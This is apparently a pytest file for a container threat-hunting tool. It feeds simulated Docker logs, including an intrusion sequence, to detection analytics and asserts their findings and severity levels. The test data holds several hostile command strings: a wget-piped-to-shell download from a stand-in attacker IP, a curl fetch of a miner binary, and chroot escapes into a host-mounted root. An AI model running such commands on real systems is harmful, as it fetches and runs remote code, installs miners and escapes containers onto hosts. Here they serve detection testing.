"""The detections of containers over a day of a host with Docker, and over the same day with an intruder in it."""

from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path

import pytest

from clew.runner.hunt import Hunt, hunt
from clew.settings.layers import read_settings
from engines import HOST, START, Day, Record, call, commit, digest, lines, program, pull, push, run

#: What a site with such a host says of it.
SITE = f"""
[elements.AN0693]
known_images = {{add = ["{Day.registry}/*", "docker:*", "portainer/*", "traefik", "containrrr/*", "prom/*", "gcr.io/cadvisor/*"]}}
"""
PIPED = "/bin/sh -c wget -qO- http://203.0.113.7/x | sh"
FETCH = "/usr/bin/curl -sO https://203.0.113.7/xmrig"


def intrusion() -> Iterator[Record]:
    """Somebody pulls an image with a miner, has it reach the host, and leaves a changed image for others."""
    time, image = START + timedelta(hours=15), f"{Day.registry}/base:1"
    yield pull(time, "kimages/miner:1")
    yield from run(
        time + timedelta(seconds=5), "mine", "docker.io/kimages/miner:1", "/entry", Binds=["/:/host"]
    )
    yield program(time + timedelta(seconds=9), "mine", PIPED, "/entry")
    yield program(time + timedelta(seconds=20), "mine", "/usr/sbin/chroot /host sh -c id", "/bin/sh")
    yield commit(time + timedelta(minutes=20), "app-14", image)
    yield push(time + timedelta(minutes=21), image)
    yield from run(time + timedelta(minutes=30), "base", image, "/app serve")


def hunted(folder: Path, records: Iterator[Record], site: str = "") -> Hunt:
    (folder / "clew.toml").write_text(site)
    (folder / "day.log").write_text(lines(records))
    return hunt(
        [folder / "day.log"], settings=read_settings(environ={}, folder=folder, system=folder / "none")
    )


def test_on_an_ordinary_day_only_images_that_nobody_named_show(tmp_path: Path) -> None:
    """Agents with the engine's socket, privileged build engines, pushes, tools of checks and of one download."""
    result = hunted(tmp_path, Day().records())
    assert result.tally.complete and result.counters.unplaced == 0
    assert {one.analytic for one in result.findings} == {"AN0693"}


def test_an_intruder_on_that_day(tmp_path: Path) -> None:
    """Each of them finds what is its own, once; all that the site has named is silent."""

    def both() -> Iterator[Record]:
        yield from Day().records()
        yield from intrusion()

    result = hunted(tmp_path, both(), SITE)
    shown = {one.analytic: (one.level, next(iter(one.bound.values()))) for one in result.findings}
    assert len(result.findings) == len(shown) and shown == {
        "AN0612": ("critical", "docker.io/kimages/miner:1"),
        "AN0613": ("low", digest("mine")[:12]),
        "AN0691": ("high", "kimages/miner:1"),
        "AN0693": ("critical", digest("mine")[:12]),
        "AN0946": ("high", f"{Day.registry}/base:1"),
    }


@pytest.mark.parametrize(
    ("site", "levels"),
    [
        ("", {"AN0691": "medium"}),
        ('OutboundCIDRBlockList = ["203.0.113.0/24"]', {"AN0691": "high"}),
        ('ImageRegistryAllowList = {add = ["kimages/*"]}', {}),
    ],
)
def test_what_a_site_says_of_its_images(tmp_path: Path, site: str, levels: dict[str, str]) -> None:
    def fetching() -> Iterator[Record]:
        yield pull(START, "kimages/app:1")
        yield from run(START + timedelta(seconds=2), "app", "kimages/app:1", "/entry")
        yield program(START + timedelta(seconds=9), "app", FETCH, "/entry")
        yield call(START + timedelta(seconds=9), "app", FETCH, "203.0.113.7")

    result = hunted(tmp_path, fetching(), f"[elements.AN0691]\n{site}\n")
    assert {one.analytic: one.level for one in result.findings} == levels


def test_odd_days_of_an_engine(tmp_path: Path) -> None:
    """What was never seen made is nobody's; a daemon that was started again tells some of it twice; names come again."""
    later = START + timedelta(minutes=30)

    def odd() -> Iterator[Record]:
        _, _, *unmade = run(START, "unmade", "kimages/old:1", "/entry", Binds=["/:/host"])
        yield from unmade
        yield program(START + timedelta(seconds=9), "unmade", "/usr/sbin/chroot /host sh", "/entry")
        made = [*run(START, "mine", "kimages/miner:1", "/entry", Binds=["/:/host"])]
        yield from (*made, *made)  # told again after the restart
        yield program(START + timedelta(minutes=9), "mine", "/usr/sbin/chroot /host sh", "/entry")
        honest = [*run(later, "other", "nginx:1.27", "/nginx")]
        for one in honest[:3]:  # another container is given the name of the first
            yield {**one, **({"Name": "/mine"} if "Name" in one else {"Actor": _named(one, "mine")})}
        yield program(later + timedelta(seconds=9), "other", "/usr/sbin/chroot /host sh", "/nginx")

    result = hunted(tmp_path, odd())
    assert result.tally.complete and result.tally.records["duplicate"] == 4
    shown = {(one.analytic, one.level) for one in result.findings if one.analytic != "AN0613"}
    assert shown == {("AN0612", "critical"), ("AN0693", "critical")}
    assert len([one for one in result.findings if one.analytic == "AN0612"]) == 1
    assert {one.bound.get("image", "kimages/miner:1") for one in result.findings} == {"kimages/miner:1"}


def _named(event: Record, name: str) -> Record:
    return {**event["Actor"], "Attributes": {**event["Actor"]["Attributes"], "name": name}}


REACHED = "/usr/sbin/chroot /host sh -c id"


def reaching() -> Iterator[Record]:
    """A container that has a path of its host runs a tool that reaches it."""
    yield from run(START, "reach", "registry.example.com/tool:1", "/entry", Binds=["/etc:/host"])
    yield program(START + timedelta(seconds=9), "reach", REACHED, "/entry")


def leaving() -> Iterator[Record]:
    """A changed container becomes an image of the registry; the proxy before the engine says who pushes."""
    image = "registry.example.com/base:1"
    yield commit(START, "app", image)
    yield {
        "time_iso8601": (START + timedelta(minutes=1)).isoformat(),
        "remote_user": "eve",
        "request_method": "POST",
        "request_uri": "/v1.41/images/registry.example.com/base/push?tag=1",
        "status": "200",
        "host": {"name": HOST},  # as a collector adds it
    }


@pytest.mark.parametrize(
    ("records", "analytic", "site", "level"),
    [
        (reaching, "AN0612", "", "critical"),
        (reaching, "AN0612", 'AllowedHostPaths = ["mount=/etc"]', None),
        (leaving, "AN0946", "", "medium"),
        (leaving, "AN0946", "RegistryNameRegex = '^other\\.example\\.com/'", "low"),
        (leaving, "AN0946", 'UserContext = ["ci-*"]', "high"),
    ],
)
def test_what_a_site_says_of_paths_registries_and_accounts(
    tmp_path: Path, records: Callable[[], Iterator[Record]], analytic: str, site: str, level: str | None
) -> None:
    result = hunted(tmp_path, records(), f"[elements.{analytic}]\n{site}\n")
    assert {one.level for one in result.findings if one.analytic == analytic} == ({level} if level else set())
